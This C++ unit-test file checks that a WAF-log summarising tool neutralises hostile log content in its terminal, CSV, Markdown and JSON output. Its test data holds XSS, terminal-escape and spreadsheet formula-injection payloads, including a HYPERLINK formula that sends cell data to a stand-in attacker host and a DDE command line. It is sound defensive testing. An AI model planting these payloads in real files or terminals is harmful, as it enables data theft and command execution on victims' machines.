// Real attack payloads as log content must come out inert in every output
// format of `waftune summary`: no raw control bytes on a terminal, no
// spreadsheet formulas in CSV, no broken Markdown tables, valid UTF-8 JSON
// that gives the payload back exactly.
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>
#include <simdjson.h>

#include "tests/hostile/hostile_util.h"

namespace waftune::hostile {
namespace {

// Payloads as JSON string contents (escaped as they are in a WAF log).
struct Payload {
  const char* json;     // Inside the log's JSON string.
  std::string decoded;  // What the reader hands on.
};

const std::vector<Payload>& UriPayloads() {
  static const auto* v = new std::vector<Payload>{
      {R"(/<script>alert(1)<\/script>)", "/<script>alert(1)</script>"},
      {R"(/\u001b]0;pwned\u0007title)", "/\x1b]0;pwned\x07title"},
      {R"(/\u001b[2J\u001b[31mred)", "/\x1b[2J\x1b[31mred"},
      {R"(/c1\u009b31mcsi)",
       "/c1\xc2\x9b"
       "31mcsi"},
      {R"(/a|b|c)", "/a|b|c"},
      {R"(/back\\slash`tick`)", "/back\\slash`tick`"},
      {R"(/new\nline\rcr\ttab)", "/new\nline\rcr\ttab"},
      {R"(/del\u007f)", "/del\x7f"},
  };
  return *v;
}

// Rule ids and client IPs a spreadsheet would run as formulas.
const std::vector<Payload>& FormulaPayloads() {
  static const auto* v = new std::vector<Payload>{
      {R"(=HYPERLINK(\"http://evil.example/?\"&A1,\"click\"))",
       R"(=HYPERLINK("http://evil.example/?"&A1,"click"))"},
      {R"(+SUM(1,2))", "+SUM(1,2)"},
      {R"(-2+3)", "-2+3"},
      {R"(@SUM(A1))", "@SUM(A1)"},
      {R"(\t=1)", "\t=1"},
      {R"(\r=1)", "\r=1"},
      {R"(=cmd|' /C calc'!A0)", "=cmd|' /C calc'!A0"},
  };
  return *v;
}

// Every payload once as a URI, as a label, and (formulas) as the rule id
// and client IP, so that they appear in the rule rows and the top lists.
std::string HostileLog() {
  std::string text;
  int i = 0;
  for (const Payload& p : UriPayloads()) {
    text += WafLine(i++, p.json, "198.51.100.7", p.json) + "\n";
  }
  for (const Payload& p : FormulaPayloads()) {
    std::string line = WafLine(i++, "/f", p.json, p.json);
    std::string from = R"("terminatingRuleId":"HostileTestRule")";
    line.replace(line.find(from), from.size(),
                 std::string(R"("terminatingRuleId":")") + p.json + "\"");
    text += line + "\n";
  }
  // A rule id with a pipe, for the Markdown table.
  std::string piped = WafLine(i++);
  std::string from = R"("terminatingRuleId":"HostileTestRule")";
  piped.replace(piped.find(from), from.size(),
                R"("terminatingRuleId":"Rule|With|Pipes")");
  text += piped + "\n";
  return text;
}

std::string RunFormat(const ScratchDir& dir, std::string_view format) {
  std::string path = dir.Write("waf.log", HostileLog());
  testing::RunResult r = testing::RunWaftune("summary --top 50 --format " +
                                             std::string(format) + " " + path);
  EXPECT_EQ(r.exit_code, 0) << r.out;
  return r.out;
}

// Offsets of control bytes other than '\n', and (for terminal-bound text)
// DEL and C1 controls in UTF-8 form. JSON allows DEL and C1 raw.
std::vector<size_t> RawControls(std::string_view s, bool terminal = true) {
  std::vector<size_t> at;
  for (size_t i = 0; i < s.size(); ++i) {
    unsigned char c = static_cast<unsigned char>(s[i]);
    bool c1 = c == 0xc2 && i + 1 < s.size() &&
              static_cast<unsigned char>(s[i + 1]) >= 0x80 &&
              static_cast<unsigned char>(s[i + 1]) <= 0x9f;
    if ((c < 0x20 && c != '\n') || (terminal && (c == 0x7f || c1)))
      at.push_back(i);
  }
  return at;
}

TEST(OutputSafetyTest, TableHasNoRawControlBytes) {
  ScratchDir dir;
  std::string out = RunFormat(dir, "table");
  ASSERT_NE(out.find("HostileTestRule"), std::string::npos) << out;
  std::vector<size_t> bad = RawControls(out);
  EXPECT_TRUE(bad.empty()) << "control byte at offset " << bad[0] << ": "
                           << out.substr(bad[0] > 40 ? bad[0] - 40 : 0, 80);
  EXPECT_TRUE(simdjson::validate_utf8(out.data(), out.size()));
}

// Splits RFC 4180 CSV into rows of cells (quoted cells may hold newlines).
std::vector<std::vector<std::string>> ParseCsv(std::string_view s) {
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false, was_quoted = false;
  for (size_t i = 0; i < s.size(); ++i) {
    char c = s[i];
    if (quoted) {
      if (c == '"' && i + 1 < s.size() && s[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c == '"' && cell.empty()) {
      quoted = was_quoted = true;
    } else if (c == ',' || c == '\n') {
      rows.back().push_back(cell);
      cell.clear();
      was_quoted = false;
      if (c == '\n')
        rows.emplace_back();
    } else {
      cell += c;
    }
  }
  (void)was_quoted;
  if (!cell.empty())
    rows.back().push_back(cell);
  if (rows.back().empty())
    rows.pop_back();
  return rows;
}

TEST(OutputSafetyTest, CsvCellsNeverStartAFormula) {
  ScratchDir dir;
  std::string out = RunFormat(dir, "csv");
  std::vector<std::vector<std::string>> rows = ParseCsv(out);
  ASSERT_GT(rows.size(), 3u) << out;
  size_t width = rows[0].size();
  bool saw_hyperlink = false;
  for (const auto& row : rows) {
    EXPECT_EQ(row.size(), width) << "row breaks the column layout";
    for (const std::string& cell : row) {
      if (cell.find("HYPERLINK") != std::string::npos)
        saw_hyperlink = true;
      if (cell.empty())
        continue;
      EXPECT_EQ(std::string_view("=+-@\t\r").find(cell[0]),
                std::string_view::npos)
          << "cell starts a formula: " << cell;
    }
  }
  EXPECT_TRUE(saw_hyperlink) << "payload missing from the CSV:\n" << out;
}

TEST(OutputSafetyTest, MarkdownTableKeepsItsColumns) {
  ScratchDir dir;
  std::string out = RunFormat(dir, "md");
  ASSERT_NE(out.find("Rule"), std::string::npos);
  size_t header_pipes = 0;
  size_t rows = 0;
  size_t pos = 0;
  while (pos < out.size()) {
    size_t nl = out.find('\n', pos);
    std::string_view line(out.data() + pos,
                          (nl == std::string::npos ? out.size() : nl) - pos);
    pos = nl == std::string::npos ? out.size() : nl + 1;
    if (line.empty() || line[0] != '|')
      continue;
    size_t pipes = 0;
    for (size_t i = 0; i < line.size(); ++i) {
      if (line[i] == '\\') {
        ++i;  // Escaped character.
      } else if (line[i] == '|') {
        ++pipes;
      }
    }
    if (header_pipes == 0)
      header_pipes = pipes;
    if (line.find("---") != std::string_view::npos)
      header_pipes = pipes;
    EXPECT_EQ(pipes, header_pipes) << "row: " << line;
    ++rows;
  }
  EXPECT_GT(rows, 3u) << out;
  EXPECT_NE(out.find("Rule\\|With\\|Pipes"), std::string::npos) << out;
  EXPECT_EQ(out.find("<script>"), std::string::npos) << out;
  std::vector<size_t> bad = RawControls(out);
  EXPECT_TRUE(bad.empty()) << out.substr(bad.empty() ? 0 : bad[0], 40);
}

TEST(OutputSafetyTest, JsonIsValidUtf8AndGivesPayloadsBack) {
  ScratchDir dir;
  std::string out = RunFormat(dir, "json");
  ASSERT_TRUE(simdjson::validate_utf8(out.data(), out.size()));
  EXPECT_TRUE(RawControls(out, /*terminal=*/false).empty());
  simdjson::dom::parser parser;
  simdjson::dom::element doc;
  ASSERT_EQ(parser.parse(out).get(doc), simdjson::SUCCESS)
      << out.substr(0, 500);
  std::vector<std::string> uris, rules, clients;
  for (simdjson::dom::element row : doc["rules"].get_array()) {
    rules.emplace_back(std::string_view(row["rule"]));
    for (simdjson::dom::element u : row["top"]["uris"].get_array())
      uris.emplace_back(std::string_view(u["value"]));
    for (simdjson::dom::element c : row["top"]["clients"].get_array())
      clients.emplace_back(std::string_view(c["value"]));
  }
  auto has = [](const std::vector<std::string>& v, const std::string& x) {
    for (const std::string& s : v) {
      if (s == x)
        return true;
    }
    return false;
  };
  for (const Payload& p : UriPayloads()) {
    EXPECT_TRUE(has(uris, p.decoded)) << "URI lost or altered: " << p.json;
  }
  for (const Payload& p : FormulaPayloads()) {
    EXPECT_TRUE(has(rules, p.decoded)) << "rule lost or altered: " << p.json;
  }
  EXPECT_TRUE(has(rules, "Rule|With|Pipes"));
  (void)clients;
}

// Lone surrogates and raw invalid UTF-8: the record is either skipped with a
// diagnostic or its text comes out as valid UTF-8 in every format.
TEST(OutputSafetyTest, InvalidUtf8NeverReachesOutput) {
  ScratchDir dir;
  std::string text = WafLine(1, R"(/lone\ud800surrogate)") + "\n" +
                     WafLine(2, R"(/low\udc00first)") + "\n" +
                     WafLine(3, "/raw\xff\xfe") + "\n" + WafLine(4) + "\n";
  std::string path = dir.Write("waf.log", text);
  for (const char* format : {"table", "csv", "md", "json"}) {
    SCOPED_TRACE(format);
    testing::RunResult r =
        testing::RunWaftune("summary --top 50 --format " + std::string(format) +
                            " " + path + " 2>/dev/null");
    EXPECT_EQ(r.exit_code, 0);
    EXPECT_TRUE(simdjson::validate_utf8(r.out.data(), r.out.size())) << r.out;
  }
  InputsReport rep = Summary(path);
  ASSERT_TRUE(rep.parsed);
  EXPECT_EQ(rep.records + rep.skipped, 4u) << rep.Dump();
  EXPECT_GE(rep.records, 1u) << rep.Dump();
  EXPECT_TRUE(rep.HasError("waf.log", 3))
      << rep.Dump();  // Raw bytes: invalid JSON.
}

}  // namespace
}  // namespace waftune::hostile
